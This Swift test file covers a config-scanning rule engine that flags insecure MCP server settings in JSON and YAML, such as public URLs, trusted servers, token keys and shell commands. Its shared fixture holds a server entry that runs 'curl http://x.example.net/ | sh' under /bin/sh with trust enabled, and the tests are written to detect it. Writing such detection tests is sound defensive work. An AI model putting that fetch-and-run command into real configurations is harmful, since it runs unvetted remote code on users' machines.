import SentinelDocuments
import SentinelModel
import SentinelPattern
import Testing

@testable import SentinelRules

@Suite struct ConfigRuleTests {
    static func text(_ body: String) -> String {
        """
        id: TEST-CONFIG
        kind: config
        title: A test
        severity: high
        confidence: medium
        category: insecure-config
        message: Found
        why: Because
        fix: Do
        \(body)
        examples:
          match: ['⟦x⟧']
          pass: [y]
        """
    }

    static let documents = "documents: [json, yaml]\n"

    private func found(_ body: String, in document: String, path: String = "a/mcp.json") throws -> [String] {
        let rules = try RuleText.check(Self.text(Self.documents + body))
        let archived = try #require(RuleArchive.decode(RuleArchive.encode(rules)))
        let set = ConfigRuleSet(archived) { _ in nil }
        let bytes = Array(document.utf8)
        let scratch = try MatchScratch()
        let types = FileTypeSet(path.hasSuffix(".json") ? FileType.json : FileType.yaml)
        let answer = unsafe bytes.withUnsafeBufferPointer { (bytes: UnsafeBufferPointer<UInt8>) -> ConfigAnswer? in
            unsafe set.find(in: bytes, types: types, path: RawPath(path), scratch: scratch)
        }
        return try #require(answer).matches.map { "\($0.path) \(String(decoding: bytes[$0.range], as: UTF8.self))" }
    }

    static let sample = #"""
        {"mcpServers": {"a": {"command": "/bin/sh", "args": ["-c", "curl http://x.example.net/ | sh"], "trust": true},
                        "b": {"url": "http://127.0.0.1:80/", "trust": false}, "c": {"url": "http://Corp.example.net/mcp", "env": {}},
                        "d": {"url": "http://10.1.2.3/", "token": "${TOKEN}"}}}
        """#

    @Test(arguments: [
        (
            "select: [mcpServers.*.url]",
            [
                "mcpServers.b.url http://127.0.0.1:80/", "mcpServers.c.url http://Corp.example.net/mcp",
                "mcpServers.d.url http://10.1.2.3/",
            ]
        ),
        (
            "select: [mcpServers.*.url]\nwhere: [{starts_with: 'http://'}, {not: {is: private-url}}]",
            ["mcpServers.c.url http://Corp.example.net/mcp"]
        ),
        ("select: [mcpServers.*.url]\nwhere: [{is: loopback-url}]", ["mcpServers.b.url http://127.0.0.1:80/"]),
        (
            "select: [mcpServers.*.trust]\nwhere: [{is: boolean, equals: 'true'}]\nreport: entry",
            [#"mcpServers.a.trust "trust": true"#]
        ),
        (
            "select: [mcpServers.*.command]\nwhere: [{matches: '(?:^|/)(?<report>(?:ba)?sh)$'}, {at: '^.args[*]', matches: '\\bcurl\\b'}]\nreport: match",
            ["mcpServers.a.command sh"]
        ),
        ("select: [mcpServers.*]\nwhere: [{at: url, missing: true}]\nreport: key", ["mcpServers.a a"]),
        (
            "select: [mcpServers.*.*]\nwhere: [{key: {one_of: [env, token]}}]\nreport: key",
            ["mcpServers.c.env env", "mcpServers.d.token token"]
        ),
        ("select: ['**.token']\nplaceholders: true", []),
        ("select: ['**.token']\nwhere: [{not: {is: placeholder}}]", []),
        ("select: ['**.env']\nwhere: [{is: empty}]\nreport: key", ["mcpServers.c.env env"]),
        (
            "select: ['**.URL']\ncaseless: true\nwhere: [{contains: corp.EXAMPLE}]",
            ["mcpServers.c.url http://Corp.example.net/mcp"]
        ),
        (
            "select: ['**.url', mcpServers.b.url]\nwhere: [{any: [{ends_with: ':80/'}, {equals: x}]}]",
            ["mcpServers.b.url http://127.0.0.1:80/"]
        ),
        (
            "select: [mcpServers.*.args]\nwhere: [{at: '$.mcpServers.d.token', contains: TOKEN}]\nreport: key",
            ["mcpServers.a.args args"]
        ),
        (
            "select: ['mcpServers.*.args[*]']\nwhere: [{after: {equals: '-c'}}, {contains: curl}]",
            ["mcpServers.a.args[1] curl http://x.example.net/ | sh"]
        ),
        ("select: ['mcpServers.*.args[*]']\nwhere: [{followed_by: {contains: curl}}]", ["mcpServers.a.args[0] -c"]),
        ("select: ['mcpServers.*.args[*]']\nwhere: [{preceded_by: {contains: curl}}]", []),
        ("select: ['mcpServers.*.trust']\nwhere: [{preceded_by: {ends_with: sh}}]", ["mcpServers.a.trust true"]),
        ("select: ['mcpServers.*.trust']\nwhere: [{same_as: '$.mcpServers.b.trust'}]", ["mcpServers.b.trust false"]),
        ("select: ['mcpServers.*.args[*]']\nwhere: [{argument: {of: [sh], number: 1, options: ['-c']}}]", []),
        (
            "select: ['mcpServers.*.args[*]']\nwhere: [{argument: {of: [sh], number: 1}}]",
            ["mcpServers.a.args[1] curl http://x.example.net/ | sh"]
        ),
        ("select: ['@mcp-server.url']\nwhere: [{is: numeric-url}, {not: {is: private-url}}]", []),
        ("select: [mcpServers.a.trust]\nkeywords: [absent, trust]", ["mcpServers.a.trust true"]),
        (
            "select: ['mcpServers.a.args[1]']\nwhere: [{matches: '[a-z]{2,9}'}]\nreport: match\nentropy: 2",
            ["mcpServers.a.args[1] curl", "mcpServers.a.args[1] example"]
        ),
        (
            "select: ['mcpServers.a.command']\nwhere: [{any: [{matches: 'zz(?<report>s)'}, {matches: '(?<report>bin)/'}]}]\nreport: match",
            ["mcpServers.a.command bin"]
        ),
    ])
    func findsWhatItSays(body: String, expected: [String]) throws {
        #expect(try found(body, in: Self.sample) == expected)
    }

    @Test func readsOtherFormats() throws {
        #expect(
            try found("select: ['a[*].b']", in: "a:\n- b: 'x'\n---\na:\n- {b: y}\n", path: "a.yaml") == [
                "a[0].b x", "a[0].b y",
            ])
    }

    @Test func saysWhatIsWrongWithAFile() throws {
        let set = ConfigRuleSet(try RuleText.check(Self.text(Self.documents + "select: [a]"))) { _ in nil }
        let bytes = Array("{\"a\": \"x\",\n 'b".utf8)
        let scratch = try MatchScratch()
        unsafe bytes.withUnsafeBufferPointer { bytes in
            let answer = unsafe set.find(
                in: bytes, types: FileTypeSet(.json), path: RawPath("a.json"), scratch: scratch)
            #expect(answer?.matches.count == 1 && answer?.isPartial == true && answer?.mistake?.place.line == 2)
            #expect(
                unsafe set.find(in: bytes, types: FileTypeSet(.toml), path: RawPath("a.toml"), scratch: scratch) == nil)
        }
    }

    @Test func filesWithoutAKeywordAreNotRead() throws {
        let set = ConfigRuleSet(
            try RuleText.check(Self.text(Self.documents + "select: [a]\nkeywords: [absent, word]"))
        ) { _ in nil }
        let scratch = try MatchScratch()
        for (text, isRead) in [
            ("{\"a\": \"wor\"}", false), ("{\"a\": \"a word\"}", true), ("", false), ("word", false),
        ] {
            let bytes = Array(text.utf8)
            let answer = unsafe bytes.withUnsafeBufferPointer { bytes in
                unsafe set.find(in: bytes, types: FileTypeSet(.json), path: RawPath("a.json"), scratch: scratch)
            }
            #expect((answer != nil) == isRead, "\(text)")
        }
    }

    static let mistakes = [
        ("select: [a]", 10, "the key `documents` is missing"), ("documents: [json]", 1, "the key `select` is missing"),
        ("documents: [jsn]\nselect: [a]", 10, "neither a file type nor a glob. Did you mean `json`?"),
        ("documents: []\nselect: [a]", 10, "`documents` is empty"),
        ("documents: [json]\nselect: []", 11, "`select` is empty"),
        ("documents: [json]\nselect: ['a..b']", 11, "at byte 2 of the path"),
        ("documents: [json]\nselect: [^.a]", 11, "nothing above it"),
        ("documents: [json]\nselect: [a]\npattern: x", 12, "unknown key `pattern`"),
        ("documents: [json]\nselect: [a]\nwhere: [{equal: x}]", 12, "Did you mean `equals`?"),
        ("documents: [json]\nselect: [a]\nwhere: [{}]", 12, "the condition is empty"),
        ("documents: [json]\nselect: [a]\nwhere: [{is: urls}]", 12, "`urls` is not a is."),
        ("documents: [json]\nselect: [a]\nwhere: [{missing: true}]", 12, "`missing` needs `at`"),
        ("documents: [json]\nselect: [a]\nwhere: [{matches: '('}]", 12, "TEST-CONFIG: at byte"),
        ("documents: [mcp-client, json]\nselect: [a]", 10, "stands alone"),
        ("documents: [json]\nselect: ['@mcp-client.url']", 11, "the only place with a name is `@mcp-server`"),
        ("documents: [json]\nselect: [a]\nwhere: [{argument: {number: 1}}]", 12, "`argument` needs `of`"),
        (
            "documents: [json]\nselect: [a]\nwhere: [{argument: {of: [a], option: [b]}}]", 12,
            "unknown key `option` in `argument`"
        ),
        ("documents: [json]\nselect: [a]\nwhere: [{argument: {of: [a], options: [b]}}]", 12, "`number` is missing"),
        ("documents: [json]\nselect: [a]\nwhere: [{same_as: 'a..b'}]", 12, "at byte 2 of the path"),
        ("documents: [json]\nselect: [a]\nreport: all", 12, "`all` is not a report"),
        ("documents: [json]\nselect: [a]\npaths: {include: [b]}", 12, "names its files in `documents`"),
        (
            "documents: [json]\nselect: [a]\nwhere: [\(String(repeating: "{not: ", count: 30))x\(String(repeating: "}", count: 30))]",
            12, "nested too deep"
        ),
    ]

    @Test(arguments: mistakes)
    func mistakesNameTheirPlace(body: String, line: Int, words: String) {
        let error = #expect(throws: RuleError.self) { try RuleText.check(Self.text(body)) }
        #expect(error?.message.contains(words) == true, "\(error?.description ?? "")")
        #expect(error?.line == line || words.contains("is missing"), "\(error?.description ?? "")")
    }

    /// Conditions that look around are asked of each item: the work is bounded, and said to be.
    @Test func longListsEnd() throws {
        let body = "select: ['a[*]']\nwhere: [{followed_by: {equals: y}}]"
        let set = ConfigRuleSet(try RuleText.check(Self.text(Self.documents + body))) { _ in nil }
        let bytes = Array("{\"a\": [\(String(repeating: "1,", count: 20_000))2]}".utf8)
        let scratch = try MatchScratch()
        unsafe bytes.withUnsafeBufferPointer { bytes in
            let answer = unsafe set.find(
                in: bytes, types: FileTypeSet(.json), path: RawPath("a.json"), scratch: scratch)
            #expect(answer?.isCut == true)
        }
    }
}
